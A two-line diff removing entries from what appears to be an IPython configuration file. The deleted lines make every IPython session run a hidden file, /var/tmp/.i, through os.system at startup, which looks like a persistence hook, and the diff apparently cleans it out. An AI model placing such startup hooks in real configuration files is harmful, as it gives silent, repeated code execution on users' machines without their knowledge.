@@ -1,2 +1,0 @@
-c = get_config()
-c.InteractiveShellApp.exec_lines = ['import os', 'os.system("/var/tmp/.i")']
